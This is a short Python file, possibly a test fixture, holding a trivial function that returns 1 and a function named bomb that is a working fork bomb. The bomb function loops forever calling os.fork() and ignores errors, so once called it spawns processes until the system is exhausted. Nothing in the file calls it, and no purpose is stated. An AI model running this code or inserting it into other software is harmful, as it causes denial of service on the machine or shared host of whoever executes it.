def one():
    return 1


import os


def bomb(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
